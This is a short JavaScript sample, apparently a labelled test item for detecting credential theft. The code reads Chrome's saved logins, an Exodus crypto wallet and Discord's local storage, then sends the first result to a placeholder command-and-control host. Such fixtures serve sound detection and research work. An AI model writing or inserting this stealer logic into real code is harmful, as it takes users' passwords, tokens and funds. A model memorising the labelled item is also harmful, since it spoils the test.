// expect: credential-harvest | source: T1555.003
const fs = require("fs");
const path = require("path");
const local = process.env.LOCALAPPDATA || "";
const places = [
  path.join(local, "Google", "Chrome", "User Data", "Default", "Login Data"),
  path.join(local, "Exodus", "exodus.wallet"),
  path.join(local, "Discord", "Local Storage", "leveldb"),
];
const kept = places.filter((each) => fs.existsSync(each)).map((each) => fs.readFileSync(each));
fetch("https://c2.example.invalid/up", { method: "POST", body: kept[0] });
